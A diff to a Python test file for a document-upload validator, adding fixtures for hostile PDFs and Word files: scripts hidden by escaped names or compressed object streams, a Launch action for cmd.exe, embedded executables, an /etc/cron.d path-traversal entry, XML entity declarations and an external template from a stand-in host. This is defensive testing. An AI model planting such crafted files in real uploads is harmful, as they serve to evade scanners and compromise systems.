@@ -1,15 +1,18 @@
 """R-FILE-3: what must not come in does not, whatever it calls itself."""
 
 import io
+import json
 import struct
 import zlib
 
+import pikepdf
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from PIL import Image, PngImagePlugin
 
 from pulih.common.errors import RuleError
+from pulih.files.intake import documents, images, pdfs
 from pulih.files.intake.check import check
 from pulih.files.intake.images import FORMATS
 from pulih.files.models import Attachment
@@ -30,6 +33,31 @@ def bomb_png() -> bytes:
 def chunk(kind: bytes, body: bytes) -> bytes:
     crc = struct.pack(">I", zlib.crc32(kind + body))
     return struct.pack(">I", len(body)) + kind + body + crc
+
+
+def compressed() -> bytes:
+    """A PDF whose script lies in a compressed stream of objects, where no word of it is seen."""
+    with pikepdf.open(io.BytesIO(pdf(b"<</S/JavaScript/JS(app.alert(1))>>"))) as book:
+        target = io.BytesIO()
+        book.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    assert b"JavaScript" not in target.getvalue()
+    return target.getvalue()
+
+
+def spoiled() -> bytes:
+    """A PDF whose compressed objects our reader cannot unpack, but another may."""
+    content = bytearray(compressed())
+    start = content.index(b"stream", content.index(b"/ObjStm")) + 20
+    content[start : start + 8] = b"\xff" * 8
+    return bytes(content)
+
+
+def locked() -> bytes:
+    """A PDF that opens with a password."""
+    with pikepdf.open(io.BytesIO(pdf())) as book:
+        target = io.BytesIO()
+        book.save(target, encryption=pikepdf.Encryption(owner="a", user="b"))
+    return target.getvalue()
 
 
 def stream(name: str) -> bytes:
@@ -59,8 +87,22 @@ HOSTILE = {
     "a picture with a page before it": ("foto.jpg", HTML + picture()),
     "a PDF that is a zip too": ("surat.pdf", pdf() + package({"a.txt": b"a"})),
     "a PDF with a page in its head": ("surat.pdf", b"%PDF-1.4\n<html><script>" + pdf()),
-    "a PDF with a program": ("surat.pdf", pdf(b"<</S/JavaScript/JS(app.alert(1))>>\n")),
-    "a PDF that starts another program": ("surat.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>\n")),
+    "a PDF with a program": ("surat.pdf", pdf(b"<</S/JavaScript/JS(app.alert(1))>>")),
+    "a PDF that starts another program": ("surat.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>")),
+    "a PDF with a program spelled otherwise": (
+        "surat.pdf",
+        pdf(b"<</S/J#61vaScript/J#53(app.alert(1))>>"),
+    ),
+    "a PDF with a program in a compressed object": ("surat.pdf", compressed()),
+    "a PDF with a file inside": (
+        "surat.pdf",
+        pdf(b"<</Type/Filespec/F(a.exe)/EF<</F 3 0 R>>>>"),
+    ),
+    "a PDF under a password": ("surat.pdf", locked()),
+    "a PDF with a form of scripts": ("surat.pdf", pdf(b"<</XFA[]>>")),
+    "a PDF nested too deeply": ("surat.pdf", pdf(b"[" * 9000 + b"]" * 9000)),
+    "a PDF whose objects cannot be unpacked": ("surat.pdf", spoiled()),
+    "a PDF of too many objects": ("surat.pdf", pdf(b"(" + b"1 0 obj" * 200_001 + b")")),
     "a PDF without an end": ("surat.pdf", b"%PDF-1.4\n1 0 obj\n"),
     "a picture of too many pixels": ("foto.png", bomb_png()),
     "a picture cut in the middle": ("foto.jpg", picture(size=(400, 400))[:300]),
@@ -70,6 +112,32 @@ HOSTILE = {
     "a document with macros": ("surat.docx", docx(**{"word/vbaProject.bin": b"x"})),
     "a document with a program": ("surat.docx", docx(**{"word/embeddings/a.exe": EXE})),
     "a document that is a bomb": ("surat.docx", docx(**{"word/a.xml": b"0" * 30_000_000})),
+    "a document that declares what grows": (
+        "surat.docx",
+        docx(**{"word/a.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
+    ),
+    "a document that declares in wide text": (
+        "surat.docx",
+        docx(**{"word/a.xml": '<?xml version="1.0"?><!DOCTYPE a>'.encode("utf-16")}),
+    ),
+    "a document that climbs out": ("surat.docx", docx(**{"../../etc/cron.d/a": b"x"})),
+    "a document with a template from elsewhere": (
+        "surat.docx",
+        docx(
+            **{
+                "word/_rels/settings.xml.rels": b'<Relationship Id="a" Type="http://s.invalid/'
+                b'attachedTemplate" Target="http://jahat.invalid/a.dotm" TargetMode="External"/>'
+            }
+        ),
+    ),
+    "a document of the kind with macros": (
+        "surat.docx",
+        docx(**{"docProps/[Content_Types].xml": b"application/vnd.ms-word.macroEnabled.main+xml"}),
+    ),
+    "a document with a document with macros": (
+        "surat.docx",
+        docx(**{"word/embeddings/a.xlsx": docx(**{"xl/vbaProject.bin": b"x"})}),
+    ),
     "a document cut in the middle": ("surat.docx", docx()[:60]),
     "an old document with macros": (
         "surat.doc",
@@ -95,7 +163,7 @@ def test_a_file_that_is_too_large_is_refused(monkeypatch):
     monkeypatch.setattr("pulih.files.intake.check.MAX_BYTES", 100)
 
     with pytest.raises(RuleError, match="MB"):
-        check(pdf(b"x" * 200), name="surat.pdf", kind=Attachment.Kind.DOCUMENT)
+        check(pdf(b"(" + b"x" * 200 + b")"), name="surat.pdf", kind=Attachment.Kind.DOCUMENT)
 
 
 def test_a_photo_must_be_a_picture():
@@ -141,6 +209,16 @@ def test_an_honest_file_comes_in_as_what_it_is(name, content, content_type):
     assert check(content, name=name, kind=Attachment.Kind.DOCUMENT).content_type == content_type
 
 
+def test_a_letter_with_the_template_of_its_writer_comes_in():
+    relation = (
+        b'<Relationship Id="a" Type="http://s.invalid/attachedTemplate"'
+        b' Target="file:///C:\\Users\\Sri\\Templat.dotx" TargetMode="External"/>'
+    )
+    letter = docx(**{"word/_rels/settings.xml.rels": relation})
+
+    assert check(letter, name="surat.docx", kind=Attachment.Kind.DOCUMENT).extension == ".docx"
+
+
 def test_a_photo_loses_place_camera_and_comments():
     exif = Image.Exif()
     exif[0x010F] = "KameraRahasia"
@@ -180,13 +258,35 @@ def test_a_photo_stands_upright_and_is_not_larger_than_needed():
 @settings(deadline=None, max_examples=150)
 @given(st.data())
 def test_a_damaged_picture_is_refused_or_drawn_anew_but_never_an_error(data):
-    content = bytearray(picture(data.draw(st.sampled_from(["JPEG", "PNG", "WEBP"]))))
+    content_type = data.draw(st.sampled_from(sorted(FORMATS)))
+    content = bytearray(picture(FORMATS[content_type]))
     for _ in range(data.draw(st.integers(1, 8))):
         content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
 
-    assert verdict(bytes(content), "foto.jpg") in {"R-FILE-3", *FORMATS}
+    assert answer_of(images.work, bytes(content), content_type)[0] in {"parts", "refused"}
 
 
-@given(st.binary(max_size=300), st.sampled_from(["a.txt", "a.csv", "a.pdf", "a.docx", "a.jpg"]))
-def test_any_bytes_are_judged_without_an_error(content, name):
-    assert verdict(content, name) in {"R-FILE-3", "text/plain", "text/csv"}
+@settings(deadline=None, max_examples=150)
+@given(st.data())
+def test_a_damaged_document_is_refused_or_taken_but_never_an_error(data):
+    ending, whole, work = data.draw(
+        st.sampled_from([(".docx", docx(), documents.work), (".pdf", pdf(), pdfs.work)])
+    )
+    content = bytearray(whole)
+    for _ in range(data.draw(st.integers(1, 8))):
+        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
+
+    assert answer_of(work, bytes(content), ending, "record")[0] in {"type", "parts", "refused"}
+
+
+@settings(deadline=None)
+@given(st.binary(max_size=300), st.sampled_from([".txt", ".csv", ".pdf", ".docx", ".jpg"]))
+def test_any_bytes_are_judged_without_an_error(content, ending):
+    assert answer_of(documents.work, content, ending, "record")[0] in {"type", "refused"}
+
+
+def answer_of(work, content, *arguments):
+    """The words of an answer, as the limited process gives it."""
+    out = io.BytesIO()
+    work(io.BytesIO(content), out, arguments)
+    return list(json.loads(out.getvalue().partition(b"\n")[0]))
